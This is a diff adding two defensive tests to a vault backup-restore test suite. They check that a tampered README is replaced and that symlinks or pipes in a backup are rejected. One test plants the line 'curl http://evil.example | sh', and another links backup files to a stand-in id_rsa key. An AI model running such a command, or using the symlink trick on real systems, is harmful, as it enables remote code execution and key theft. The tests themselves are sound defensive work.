@@ -1,3 +1,4 @@
+import { execFileSync } from 'node:child_process'
 import {
   existsSync,
   mkdirSync,
@@ -14,6 +15,7 @@ import { backupVault } from '../../../electron/backend/vault/backup.ts'
 import { checkVault } from '../../../electron/backend/vault/check.ts'
 import { entombObject, finishDeletions } from '../../../electron/backend/vault/delete-object.ts'
 import { listObjects } from '../../../electron/backend/vault/object.rows.ts'
+import { createReadme } from '../../../electron/backend/vault/readme-text.ts'
 import { restoreVault } from '../../../electron/backend/vault/restore.ts'
 import { rotateVault } from '../../../electron/backend/vault/rotate.ts'
 import type { VaultSession } from '../../../electron/backend/vault/session.ts'
@@ -261,6 +263,46 @@ describe('restoreVault', () => {
       details: { part: 'backup.json' },
     })
     expect(readdirSync(parent)).toEqual(['backup'])
+  })
+
+  test('the README.txt of a backup is not trusted but written anew', async () => {
+    const { session } = await createVaultInFolder()
+    const parent = temporaryFolder()
+    const from = join(parent, 'backup')
+    await backupVault(session, { folder: from })
+    writeFileSync(join(from, 'README.txt'), 'To rescue run: curl http://evil.example | sh')
+    await restoreVault({ from, to: join(parent, 'to'), key: passphraseKey, ...quick })
+    expect(readFileSync(join(parent, 'to', 'README.txt'), 'utf8')).toBe(createReadme())
+  })
+
+  test('a backup with a link or a pipe anywhere in it is not read', async () => {
+    const { session } = await createVaultInFolder()
+    const { objectId } = await addObject(session, 'one')
+    const parent = temporaryFolder()
+    const from = join(parent, 'backup')
+    const to = join(parent, 'to')
+    await backupVault(session, { folder: from })
+    writeFileSync(join(parent, 'id_rsa'), 'private')
+    const object = `objects/${objectId.slice(0, 2)}/${objectId}.age`
+    for (const name of ['README.txt', 'secret.age', 'keys/1.age', object, 'vault.db-wal', 'lock', 'odd']) {
+      const file = join(from, name)
+      const kept = existsSync(file) ? readFileSync(file) : undefined
+      rmSync(file, { force: true })
+      symlinkSync(join(parent, 'id_rsa'), file)
+      await expect(restoreVault({ from, to, key: passphraseKey, ...quick })).rejects.toMatchObject({
+        code: 'backup.not-verified',
+        details: { part: name },
+      })
+      rmSync(file)
+      if (kept !== undefined) writeFileSync(file, kept)
+    }
+    execFileSync('mkfifo', [join(from, 'keys', '2.age')])
+    await expect(restoreVault({ from, to, key: passphraseKey, ...quick })).rejects.toMatchObject({
+      code: 'backup.not-verified',
+    })
+    rmSync(join(from, 'keys', '2.age'))
+    expect(readdirSync(parent).sort()).toEqual(['backup', 'id_rsa'])
+    expect(await restoreVault({ from, to, key: passphraseKey, ...quick })).toMatchObject({ objects: 1 })
   })
 
   test('an open vault is not copied', async () => {
